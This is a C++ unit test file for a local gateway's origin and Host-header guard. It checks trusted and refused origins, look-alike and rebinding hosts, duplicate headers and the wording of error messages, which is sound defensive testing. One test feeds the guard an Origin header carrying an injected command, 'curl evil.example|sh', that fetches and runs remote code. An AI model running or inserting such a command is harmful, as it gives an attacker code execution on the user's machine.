#include "gatewayd/auth/origin_guard.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <optional>

#include "gatewayd/base/error.h"

namespace ag::auth {
namespace {

using ::testing::AllOf;
using ::testing::EndsWith;
using ::testing::HasSubstr;
using ::testing::Not;

OriginPolicy Policy() {
  OriginPolicy policy;
  policy.allowed_origins = {"https://app.example", "https://Other.example:443/", "chrome-extension://abcdef"};
  policy.allowed_hosts = {"gateway.home", "fd00::7"};
  policy.machine_name = "Workstation";
  return policy;
}

absl::Status Check(const std::vector<http::Header>& fields, const OriginPolicy& policy = Policy(), bool key = false) {
  GuardInput input;
  input.headers = http::Headers(fields);
  input.local_address = "192.168.1.5";
  input.has_valid_key = key;
  return CheckOrigin(policy, input);
}

std::optional<ErrorKind> Refusal(const absl::Status& status) {
  return status.ok() ? std::nullopt : std::optional<ErrorKind>(KindOf(status));
}

struct OriginCase {
  const char* origin;
  bool trusted;
};
class Origins : public testing::TestWithParam<OriginCase> {};

TEST_P(Origins, AreTrustedOrNeedTheKey) {
  const auto& [origin, trusted] = GetParam();
  EXPECT_EQ(IsTrustedOrigin(Policy(), origin), trusted) << origin;
  const std::vector<http::Header> fields{
      {"Host", "127.0.0.1:8045"}, {"Origin", origin}, {"Sec-Fetch-Site", "cross-site"}};
  EXPECT_EQ(Refusal(Check(fields)), trusted ? std::nullopt : std::optional(ErrorKind::kOriginRefused)) << origin;
  EXPECT_TRUE(Check(fields, Policy(), true).ok()) << origin;
}

INSTANTIATE_TEST_SUITE_P(
    Matrix, Origins,
    testing::Values(
        // Pages of this machine, whatever their port.
        OriginCase{"http://localhost", true}, OriginCase{"http://localhost:3000", true},
        OriginCase{"https://LOCALHOST:3000", true}, OriginCase{"http://127.0.0.1:5173", true},
        OriginCase{"http://127.8.9.1", true}, OriginCase{"http://[::1]:8045", true},
        OriginCase{"http://[::ffff:127.0.0.1]", true}, OriginCase{"http://app.localhost:3000", true},
        OriginCase{"https://tauri.localhost", true}, OriginCase{"http://localhost.", true},
        // Desktop applications.
        OriginCase{"app://obsidian.md", true}, OriginCase{"file://", true}, OriginCase{"tauri://localhost", true},
        OriginCase{"vscode-webview://1a2b3c", true},
        // Allow-listed, in any spelling that means the same.
        OriginCase{"https://app.example", true}, OriginCase{"https://APP.example:443", true},
        OriginCase{"https://other.example", true}, OriginCase{"chrome-extension://abcdef", true},
        // Foreign.
        OriginCase{"https://evil.example", false}, OriginCase{"http://app.example", false},
        OriginCase{"https://app.example:8443", false}, OriginCase{"https://sub.app.example", false},
        OriginCase{"https://app.example.evil.example", false}, OriginCase{"chrome-extension://other", false},
        OriginCase{"moz-extension://0f1e2d", false}, OriginCase{"null", false}, OriginCase{"", false},
        // Look-alikes.
        OriginCase{"http://localhost.evil.example", false}, OriginCase{"http://127.0.0.1.evil.example", false},
        OriginCase{"http://localhost@evil.example", false}, OriginCase{"http://evil.example#localhost", false},
        OriginCase{"http://localhost:3000.evil.example", false}, OriginCase{"http://[::1].evil.example", false},
        OriginCase{"http://[::1", false}, OriginCase{"http://[::2]", false}, OriginCase{"http://127.1", false},
        OriginCase{"http://0x7f.0.0.1", false}, OriginCase{"http://128.0.0.1", false}, OriginCase{"http://", false},
        OriginCase{"http://.localhost", false}, OriginCase{"http:localhost", false}, OriginCase{"localhost", false},
        OriginCase{"app.evil://x", false}, OriginCase{"apps://x", false}, OriginCase{"http://localhost:99999", false},
        OriginCase{"http://localhost http://evil.example", false}));

struct HostCase {
  const char* host;
  bool allowed;
  bool lan = false;
};
class Hosts : public testing::TestWithParam<HostCase> {};

TEST_P(Hosts, AreOursOrRefusedEvenWithAKey) {
  const auto& [host, allowed, lan] = GetParam();
  OriginPolicy policy = Policy();
  policy.lan = lan;
  EXPECT_EQ(Check({{"Host", host}}, policy).ok(), allowed) << host;
  EXPECT_EQ(Check({{"Host", host}}, policy, true).ok(), allowed) << host;
}

INSTANTIATE_TEST_SUITE_P(
    Matrix, Hosts,
    testing::Values(HostCase{"127.0.0.1:8045", true}, HostCase{"127.0.0.1", true}, HostCase{"127.0.0.53:1", true},
                    HostCase{"localhost:8045", true}, HostCase{"LocalHost.:8045", true},
                    HostCase{"api.localhost", true}, HostCase{"[::1]:8045", true}, HostCase{"[0:0:0:0:0:0:0:1]", true},
                    HostCase{"[::ffff:127.0.0.1]:9", true}, HostCase{"host.docker.internal:8045", true},
                    HostCase{"192.168.1.5:8045", true}, HostCase{"[::ffff:192.168.1.5]", true},
                    HostCase{"Gateway.Home", true}, HostCase{"gateway.home.:80", true},
                    HostCase{"[fd00::7]:8045", true}, HostCase{"[fd00:0::7]", true},
                    // The machine's own name only when it serves the LAN.
                    HostCase{"workstation:8045", false}, HostCase{"workstation:8045", true, true},
                    HostCase{"WORKSTATION.local", true, true}, HostCase{"workstation.evil.example", false, true},
                    // Rebound names and other addresses.
                    HostCase{"evil.example", false}, HostCase{"evil.example:8045", false, true},
                    HostCase{"192.168.1.6", false}, HostCase{"localhost.evil.example", false},
                    HostCase{"127.0.0.1.evil.example", false}, HostCase{"127.1", false}, HostCase{"2130706433", false},
                    HostCase{"0.0.0.0", false}, HostCase{"[::2]", false}, HostCase{"[fd00::8]", false},
                    HostCase{"sub.gateway.home", false}, HostCase{"xlocalhost", false}, HostCase{".localhost", false},
                    // Not a Host at all.
                    HostCase{"", false}, HostCase{":8045", false}, HostCase{"localhost:", false},
                    HostCase{"localhost:99999", false}, HostCase{"localhost:80a", false},
                    HostCase{"user@localhost", false}, HostCase{"localhost/x", false}, HostCase{"[::1", false},
                    HostCase{"[::1]x", false}, HostCase{"[127.0.0.1]", false}, HostCase{"::1", false},
                    HostCase{"localhost, evil.example", false}, HostCase{"localhost..", false},
                    HostCase{"[::1%lo]", false}));

TEST(CheckOrigin, HostIsDemandedOnceOnHttp11) {
  EXPECT_EQ(Refusal(Check({})), ErrorKind::kInvalidRequest);
  EXPECT_EQ(Refusal(Check({{"Host", "localhost"}, {"host", "localhost"}})), ErrorKind::kInvalidRequest);
  GuardInput old;
  old.http10 = true;
  EXPECT_TRUE(CheckOrigin(Policy(), old).ok());
}

TEST(CheckOrigin, ProgramsWithoutOriginPass) {
  EXPECT_TRUE(Check({{"Host", "localhost:8045"}, {"User-Agent", "curl"}}).ok());
  EXPECT_TRUE(Check({{"Host", "localhost:8045"}, {"Sec-Fetch-Site", "none"}}).ok());
  EXPECT_TRUE(Check({{"Host", "localhost:8045"}, {"Sec-Fetch-Site", "same-origin"}}).ok());
}

TEST(CheckOrigin, CrossSiteWithoutOriginNeedsTheKey) {
  const std::vector<http::Header> fields{
      {"Host", "localhost"}, {"Sec-Fetch-Site", "same-origin"}, {"sec-fetch-site", "Cross-Site"}};
  EXPECT_EQ(Refusal(Check(fields)), ErrorKind::kOriginRefused);
  EXPECT_TRUE(Check(fields, Policy(), true).ok());
}

TEST(CheckOrigin, TwoOriginsAreRefusedEvenWithAKey) {
  const std::vector<http::Header> fields{
      {"Host", "localhost"}, {"Origin", "http://localhost"}, {"Origin", "https://evil.example"}};
  EXPECT_EQ(Refusal(Check(fields, Policy(), true)), ErrorKind::kInvalidRequest);
}

TEST(CheckOrigin, TheErrorHoldsTheSettingThatAllowsIt) {
  OriginPolicy policy;
  const auto origin = Check({{"Host", "localhost"}, {"Origin", "https://app.example"}}, policy);
  EXPECT_THAT(std::string(origin.message()), EndsWith("agctl config set proxy.allowed_origins https://app.example"));
  const auto null = Check({{"Host", "localhost"}, {"Origin", "null"}}, policy);
  EXPECT_THAT(std::string(null.message()), EndsWith("agctl config set proxy.allowed_origins null"));
  const auto host = Check({{"Host", "gw.example:8045"}}, policy);
  EXPECT_THAT(std::string(host.message()), EndsWith("agctl config set proxy.allowed_hosts gw.example"));
}

TEST(CheckOrigin, TheSettingAllowsWhatWasRefusedAndKeepsTheRest) {
  OriginPolicy policy;
  policy.allowed_origins = {"https://a.example"};
  const std::string message(Check({{"Host", "localhost"}, {"Origin", "null"}}, policy).message());
  EXPECT_THAT(message, EndsWith("proxy.allowed_origins https://a.example,null"));
  policy.allowed_origins.emplace_back("null");
  EXPECT_TRUE(Check({{"Host", "localhost"}, {"Origin", "null"}}, policy).ok());
}

TEST(CheckOrigin, AHostileOriginDoesNotReachACommandLine) {
  const auto status = Check({{"Host", "localhost"}, {"Origin", "https://x;curl evil.example|sh"}});
  EXPECT_EQ(Refusal(status), ErrorKind::kOriginRefused);
  EXPECT_THAT(std::string(status.message()), AllOf(Not(HasSubstr("curl")), Not(HasSubstr("config set"))));
}

}  // namespace
}  // namespace ag::auth
